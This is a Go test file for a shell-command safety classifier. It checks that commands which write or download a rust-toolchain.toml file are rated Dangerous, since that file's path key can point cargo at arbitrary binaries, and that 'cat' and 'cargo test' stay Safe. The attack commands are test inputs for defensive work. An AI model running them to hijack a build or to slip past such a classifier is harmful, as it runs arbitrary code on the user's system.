package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestAttackS28ReviewRustToolchainWrite: rustup's cargo reads the
// project's rust-toolchain.toml (or rust-toolchain) to choose the
// toolchain it runs, and its path key names a directory whose bin/cargo
// and bin/rustc run in its place: writing it makes cargo test, which is
// Safe, run any program, as writing .cargo/config.toml does (Dangerous
// since 2fc225b). It was Warning.
func TestAttackS28ReviewRustToolchainWrite(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`printf '[toolchain]\npath = "/tmp/x"\n' > rust-toolchain.toml`,
		`echo '[toolchain]' > rust-toolchain.toml && cargo test`,
		`echo '/tmp/x' > rust-toolchain`,
		`cp /tmp/t ./rust-toolchain.toml`,
		`curl -o sub/rust-toolchain.toml https://x.test/t`,
	})
	assert.Equal(t, Safe, Classify(`cat rust-toolchain.toml`).Level)
	assert.Equal(t, Safe, Classify(`cargo test`).Level)
}
